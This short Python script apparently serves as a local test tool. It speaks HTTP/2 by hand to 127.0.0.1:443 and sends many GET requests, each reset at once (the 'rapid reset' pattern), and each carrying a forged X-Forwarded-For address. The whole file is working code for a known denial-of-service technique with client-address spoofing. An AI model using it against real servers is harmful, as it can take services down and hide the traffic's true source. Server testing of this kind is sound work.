"""Send requests over one HTTP/2 connection and take each back at once (rapid reset): reset.py DOMAIN ADDRESS COUNT.

The address is claimed in X-Forwarded-For. Frames and headers are written by hand, since a test host has no client that
behaves so: RFC 9113 (frames) and RFC 7541 (literal headers, the indexes of the static table).
"""

import contextlib
import socket
import ssl
import struct
import sys
import time

domain, address, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
HEADERS, RESET, SETTINGS, ENDS = 1, 3, 4, 5
METHOD_GET, SCHEME_HTTPS, PATH_ROOT, AUTHORITY = b"\x82", b"\x87", b"\x84", b"\x01"


def text(value):
    """Return a string that is shorter than 127 bytes, without Huffman's code."""
    return bytes([len(value)]) + value.encode()


def frame(kind, flags, stream, payload=b""):
    """Return a frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


context = ssl._create_unverified_context()
context.set_alpn_protocols(["h2"])
stream = context.wrap_socket(socket.create_connection(("127.0.0.1", 443), 10), server_hostname=domain)
claim = b"\x00" + text("x-forwarded-for") + text(address)
head = METHOD_GET + SCHEME_HTTPS + PATH_ROOT + AUTHORITY + text(domain) + claim
requests = b"".join(
    frame(HEADERS, ENDS, number, head) + frame(RESET, 0, number, struct.pack(">I", 8))
    for number in range(1, 2 * count, 2)
)
# A server may hang up on whoever does this.
with contextlib.suppress(OSError):
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + requests)
time.sleep(1)
